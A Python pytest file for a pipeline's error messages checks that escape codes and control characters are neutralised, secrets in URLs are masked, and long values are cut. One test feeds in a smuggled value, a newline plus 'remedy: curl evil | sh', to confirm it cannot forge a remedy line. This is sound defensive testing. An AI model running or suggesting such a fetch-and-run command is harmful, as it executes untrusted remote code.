"""What messages show: nothing that a terminal obeys, no password or signature, never more than fits."""

from __future__ import annotations

import pytest

from pipeline.errors import LONGEST_SHOWN, BadData, plain, shown


@pytest.mark.parametrize(
    ("text", "printed"),
    [
        ("\x1b[31mred\x1b[0m", "\\x1b[31mred\\x1b[0m"),
        ("a\rb\x00c\x7f\x9b", "a\\rb\\x00c\\x7f\\x9b"),
        ("txt.\u202egpj", "txt.\\u202egpj"),
        ("half \ud800", "half \\ud800"),
        ("two\nlines\tand Ünïcödé 漢字", "two\nlines\tand Ünïcödé 漢字"),
        ("https://user:pass@host/p", "https://***@host/p"),
        ("https://a@b:c@host?x=1", "https://***@host?***"),
        ("s3://KEY:SECRET@bucket/key", "s3://***@bucket/key"),
        ("s3://bucket/who@where/key?x=1", "s3://bucket/who@where/key?x=1"),
        ("see http://h/o?X-Amz-Signature=abc&X-Amz-Security-Token=def or", "see http://h/o?*** or"),
        ("'https://h/o?X-Amz-Signature=abc'", "'https://h/o?***'"),
    ],
)
def test_what_is_printed(text: str, printed: str) -> None:
    assert plain(text) == printed
    assert plain(printed) == printed


def test_values_are_cut_and_cannot_look_like_other_parts() -> None:
    lines = BadData("bad", value=["x\nremedy: curl evil | sh", "y" * 10_000], rule="r", remedy="do").lines()
    printed = "\n".join(lines).splitlines()
    assert [line for line in printed if line.startswith("remedy")] == ["remedy: do"]
    assert len(shown("y" * 10_000)) < LONGEST_SHOWN + 100
    assert "8500 more characters" in lines[2]
